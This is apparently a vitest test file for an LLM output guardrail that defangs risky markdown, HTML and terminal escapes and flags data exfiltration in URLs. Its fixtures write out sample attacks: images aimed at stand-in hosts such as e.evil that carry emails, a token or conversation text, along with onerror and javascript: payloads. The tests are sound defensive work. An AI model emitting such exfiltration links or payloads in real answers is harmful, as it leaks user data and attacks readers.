import { describe, expect, it } from 'vitest';
import { guardrailsSchema } from '../../config/schema-guardrails.js';
import { findingSeverity, SEVERITY } from '../../siem/severity.js';
import { refusalOf } from '../decision.js';
import { floodsFor } from '../detectors/detector-floods.fixtures.js';
import { createDetector } from '../detectors/index.js';
import { evaluatePolicies } from '../policy.js';
import { compileProfiles, incidentVariant } from '../profile.js';
import { redactText } from '../redaction.js';
import type { DetectContext } from '../types.js';
import { createRenderDetector } from './detector.js';
import { createExfiltrationDetector } from './exfiltration.js';

const OUT: DetectContext = { direction: 'output', role: 'assistant', part: 'content' };
const render = createRenderDetector({ links: { allowedDomains: ['docs.acme.io'] }, spreadsheet: false });

function transformed(text: string, detector = render, context: DetectContext = OUT): string {
  return redactText(text, detector.detect(text, context), 'mask', undefined);
}

/** Everyday answers: prose, code (with tags inside code), tables, lists, relative and allowed links. */
const EVERYDAY = [
  'The capital of France is Paris. 3 < 4 and 10 > 9; a -> b.',
  'Use a `<div>` wrapper:\n\n```html\n<div onclick="go()"><img src="x.png"></div>\n```\n\nThen style it.',
  '| name | total |\n|---|---:|\n| a | -12 |\n| b | =3 |\n',
  '- one\n- two\n  - nested [docs](https://docs.acme.io/a?x=1#y)\n- [help](/help) and [top](#top)',
  'Email me at someone@example.org, or call +1 555 0100. Visit https://example.org/plain for more.',
  '`Vec<String>` and `Option<T>` in code spans stay as they are.',
  '**bold** _it_ ~~gone~~ > quote\n\n1. first\n2. second',
];

describe('render detector', () => {
  it.each(EVERYDAY.map((t, i) => [i, t]))('everyday answer %i passes byte for byte, with no findings', (_i, text) => {
    expect(render.detect(text, OUT)).toEqual([]);
    expect(transformed(text)).toBe(text);
  });

  it('findings say what changed and where (type, span, how), never the removed URL or content', () => {
    const text = 'A ![x](https://evil.example/p?u=ann@example.com) B';
    const [f] = render.detect(text, OUT);
    expect(f).toMatchObject({ detector: 'render', type: 'markdown_image', start: 2, end: 48, score: 1, evidence: 'defanged evil.example' });
  });

  it('remove instead of defang; stripQuery on allowed domains', () => {
    const strict = createRenderDetector({ images: { allowedDomains: ['img.acme.io'], action: 'remove' }, links: { action: 'remove' }, stripQuery: true });
    expect(transformed('![a](https://evil.example/x.png) [b](https://evil.example/) ![c](https://img.acme.io/c.png?u=1#f)', strict)).toBe(
      'a b ![c](https://img.acme.io/c.png)',
    );
  });

  it('html escape mode escapes every tag, allowed or not', () => {
    const escaping = createRenderDetector({ html: 'escape' });
    expect(transformed('<b>x</b> <img src=x>', escaping)).toBe('&lt;b&gt;x&lt;/b&gt; &lt;img src=x&gt;');
  });

  it('terminal escape mode shows sequences as visible text', () => {
    const escaping = createRenderDetector({ terminal: 'escape' });
    expect(transformed('a\u001b[31mb', escaping)).toBe('a\\u001b[31mb');
  });

  it('tool-call arguments are transformed only when configured', () => {
    const args = '{"body":"<img src=x onerror=alert(1)>"}';
    const context: DetectContext = { direction: 'output', role: 'assistant', part: 'tool_arguments' };
    expect(render.detect(args, context)).toEqual([]);
    expect(transformed(args, createRenderDetector({ toolArguments: true }), context)).toBe('{"body":"&lt;img src=x onerror=alert(1)&gt;"}');
  });

  it('terminal sequences written as JSON escapes in tool-call arguments are removed too', () => {
    const context: DetectContext = { direction: 'output', role: 'assistant', part: 'tool_arguments' };
    const args = JSON.stringify({ cmd: 'echo \u001b[31mred\u001b[0m \u001b]8;;https://evil.example/\u0007click\u001b]8;;\u0007 done' });
    const out = transformed(args, createRenderDetector({ toolArguments: true }), context);
    expect(JSON.parse(out)).toEqual({ cmd: 'echo red click done' });
  });

  it('bad options stop the configuration, never a request', () => {
    expect(() => createRenderDetector({ html: 'strip' } as never)).toThrow(TypeError);
    expect(() => createRenderDetector({ images: { allowedDomains: 'x' } } as never)).toThrow(TypeError);
    expect(() => createRenderDetector({ spreadsheet: 'yes' } as never)).toThrow(TypeError);
    expect(() => createRenderDetector({ imagez: {} } as never)).toThrow(/unknown option/);
    expect(() => createExfiltrationDetector({ minConversationChars: 2 })).toThrow(TypeError);
  });

  it('past the parse bound, no link syntax survives and HTML is still escaped, in time linear in the text', () => {
    const text = `${'word '.repeat(7_000)}![x](https://evil.example/p) [y](javascript:alert(1))\n\n[r]: https://evil.example/\n<img src=x onerror=alert(1)>`;
    const out = transformed(text);
    expect(out.endsWith('![x]\\(https://evil.example/p) [y]\\(javascript:alert(1))\n\n[r]\\: https://evil.example/\n&lt;img src=x onerror=alert(1)&gt;')).toBe(
      true,
    );
    expect(render.detect(text, OUT).map((f) => f.type)).toEqual(['markdown_unparsed', 'markdown_unparsed', 'markdown_unparsed', 'html_tag']);
  });

  it('a flood of constructs is answered (each rewritten once, nested ones folded into their parent)', () => {
    expect(render.detect('[![a](https://e.vil/x)](https://e.vil/y) '.repeat(250), OUT)).toHaveLength(250);
    // Past MAX_LINK_MARKERS: not parsed, every marker escaped.
    expect(render.detect('[![a](https://e.vil/x)](https://e.vil/y) '.repeat(300), OUT)).toHaveLength(600);
    expect(render.detect('<img src=x onerror=1>'.repeat(1000), OUT)).toHaveLength(1000);
  });

  it('answers pathological floods with the pinned number of findings', () => {
    const strict = createRenderDetector({ spreadsheet: true });
    for (const { text, findings } of floodsFor('render')) expect(strict.detect(text, OUT), text.slice(0, 12)).toHaveLength(findings);
    const exfil = createExfiltrationDetector();
    for (const { text, findings } of floodsFor('exfiltration')) expect(exfil.detect(text, OUT), text.slice(0, 12)).toHaveLength(findings);
  });

  it('never throws on random input', () => {
    for (let n = 0; n < 200; n++) {
      let s = '';
      for (let i = 0; i < 300; i++) s += '[]()<>!`\\ \n&#;:/"\'=x\u001b'[Math.floor(Math.random() * 22)] ?? 'a';
      expect(() => transformed(s, createRenderDetector({ spreadsheet: true }))).not.toThrow();
    }
  });
});

describe('exfiltration detector', () => {
  const exfil = createExfiltrationDetector();
  const withConversation = { ...OUT, conversation: 'my order number is zx-4471-qq and the project is called bluebird-migration' };

  it.each([
    ['PII', '![x](https://e.evil/p?u=ann.lee%40example.com)', 'exfiltration_pii'],
    ['a secret in the path', '![x](https://e.evil/ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8.png)', 'exfiltration_secret'],
    ['conversation text', '[x](https://e.evil/c?o=zx-4471-qq&p=bluebird-migration)', 'exfiltration_conversation'],
    ['conversation text in a fragment', '<img src="https://e.evil/#zx-4471-qq%20bluebird-migration">', 'exfiltration_conversation'],
  ])('%s in a URL is an exfiltration finding', (_name, text, type) => {
    expect(exfil.detect(text, withConversation)).toEqual([expect.objectContaining({ detector: 'exfiltration', type, score: 0.95, evidence: 'e.evil' })]);
  });

  it('data in subdomain labels counts, and evidence never names them', () => {
    const [f] = exfil.detect('![x](https://zx-4471-qq.bluebird-migration.e.evil/p.png)', withConversation);
    expect(f).toMatchObject({ type: 'exfiltration_conversation', evidence: 'e.evil' });
  });

  it('a terminal sequence in a defanged label does not survive', () => {
    expect(transformed('[red \u001bMtext](https://evil.example/)')).toBe('red Mtext (`https://evil.example/`)');
    // A sequence that overlaps the link's own brackets: neither rewrite is exact, so the union goes.
    expect(transformed('[red \u001b[31mtext](https://evil.example/) ok')).toBe('[red  ok');
  });

  it('a URL without data, or with too little of the conversation, is not', () => {
    expect(exfil.detect('[docs](https://docs.acme.io/guide/start) https://e.evil/?q=order', withConversation)).toEqual([]);
  });

  it('is High in the SIEM whatever the action', () => {
    expect(findingSeverity('monitor', 'exfiltration')).toBe(SEVERITY.high);
    expect(findingSeverity('monitor', 'render')).toBe(SEVERITY.low);
  });

  it('incident mode turns a monitoring exfiltration policy into a block', async () => {
    const config = guardrailsSchema.parse({ profiles: { p: { output: { render: { action: 'redact' }, exfiltration: { action: 'monitor' } } } } });
    const profile = compileProfiles(config, createDetector).get('p');
    if (!profile) throw new Error('no profile');
    const targets = [{ path: 'choices[0].message.content', text: '![x](https://e.evil/p?u=ann.lee@example.com)', context: OUT }];
    const normal = await evaluatePolicies(profile.output, targets, new AbortController().signal);
    expect(normal.action).toBe('redact');
    const incident = await evaluatePolicies(incidentVariant(profile).output, targets, new AbortController().signal);
    expect(incident.action).toBe('block');
    expect(refusalOf(incident, 'output', 'p@incident')).toMatchObject({
      reason: 'output_blocked',
      policyId: 'guardrails/p@incident/exfiltration:exfiltration_pii',
    });
  });
});
